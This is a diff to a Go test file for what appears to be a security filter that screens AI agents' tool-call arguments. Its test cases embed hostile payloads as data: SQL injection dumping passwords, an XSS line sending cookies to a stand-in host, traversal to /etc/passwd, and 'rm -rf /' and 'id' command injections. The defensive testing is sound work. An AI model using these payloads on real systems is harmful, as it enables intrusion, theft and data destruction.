@@ -109,7 +109,7 @@ func TestEvaluateWithModel(t *testing.T) {
 		label  string
 		path   string
 	}{
-		{"sql injection", `{"tool":"query","arguments":{"sql":"' UNION SELECT username, password FROM users--"}}`, abi.ActionDeny, "sql_injection", "arguments.sql"},
+		{"sql injection in a search box", `{"tool":"search","arguments":{"q":"' UNION SELECT username, password FROM users--"}}`, abi.ActionDeny, "sql_injection", "arguments.q"},
 		{"xss", `{"tool":"post","arguments":{"title":"hi","body":"<script>document.location='http://x.example/?c='+document.cookie</script>"}}`, abi.ActionDeny, "xss", "arguments.body"},
 		{"traversal", `{"tool":"read_file","arguments":{"path":"../../../../../../etc/passwd"}}`, abi.ActionDeny, "", "arguments.path"},
 		{"benign path", `{"tool":"read_file","arguments":{"path":"src/internal/server/handler.go"}}`, abi.ActionNone, "", ""},
@@ -245,12 +245,50 @@ func TestResponseLabels(t *testing.T) {
 	if err != nil || v.Action != "none" {
 		t.Fatalf("tool output flagged as %s: %+v %v", v.Action, v, err)
 	}
-	req := []byte(`{"phase":"request","method":"tools/call","arguments":{"cmd":"echo 0; rm -rf /"}}`)
+	req := []byte(`{"phase":"request","method":"tools/call","arguments":{"hostname":"echo 0; rm -rf /"}}`)
 	if v, err := Evaluate(req, c, call); err != nil || v.Action != "deny" {
 		t.Fatalf("request phase: %+v %v", v, err)
 	}
 	c.ResponseLabels = []string{"command_injection"}
 	if v, _ := Evaluate(resp, c, call); v.Action != "deny" {
 		t.Fatalf("configured response label ignored: %+v", v)
+	}
+}
+
+// TestKindsAndIncomplete: a label that is the argument's purpose does not count; what the
+// stage could not send is reported as incomplete, never passed as clean.
+func TestKindsAndIncomplete(t *testing.T) {
+	c, err := ParseConfig(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmdi := func(b []byte) ([]byte, error) {
+		var req struct{ Texts []string }
+		_ = json.Unmarshal(b, &req)
+		r := strings.Repeat(`{"label":"command_injection","score":0.95},`, len(req.Texts))
+		return []byte(`{"results":[` + strings.TrimSuffix(r, ",") + `]}`), nil
+	}
+	shellCall := []byte(`{"phase":"request","method":"tools/call","tool":"Bash","arguments":{"command":"python3 -m venv .venv"}}`)
+	if v, err := Evaluate(shellCall, c, cmdi); err != nil || v.Action != "none" {
+		t.Errorf("Bash command judged as command injection: %+v %v", v, err)
+	}
+	host := []byte(`{"phase":"request","method":"tools/call","tool":"ping","arguments":{"host":"example.com; id"}}`)
+	if v, err := Evaluate(host, c, cmdi); err != nil || v.Action != "deny" {
+		t.Errorf("command injection in a hostname: %+v %v", v, err)
+	}
+	oddKey := []byte(`{"phase":"request","method":"tools/call","tool":"echo","arguments":{"x; rm -rf /":"1"}}`)
+	if v, err := Evaluate(oddKey, c, cmdi); err != nil || v.Action != "deny" {
+		t.Errorf("a key that is not a field name is not classified: %+v %v", v, err)
+	}
+	c.MaxTexts = 2
+	many := []byte(`{"phase":"request","method":"tools/call","tool":"echo","arguments":{"a":"one","b":"two","c":"three"}}`)
+	benign := func(b []byte) ([]byte, error) {
+		var req struct{ Texts []string }
+		_ = json.Unmarshal(b, &req)
+		r := strings.Repeat(`{"label":"benign","score":0.99},`, len(req.Texts))
+		return []byte(`{"results":[` + strings.TrimSuffix(r, ",") + `]}`), nil
+	}
+	if v, err := Evaluate(many, c, benign); err != nil || !v.Incomplete {
+		t.Errorf("3 texts with max_texts 2: %+v %v, want incomplete", v, err)
 	}
 }
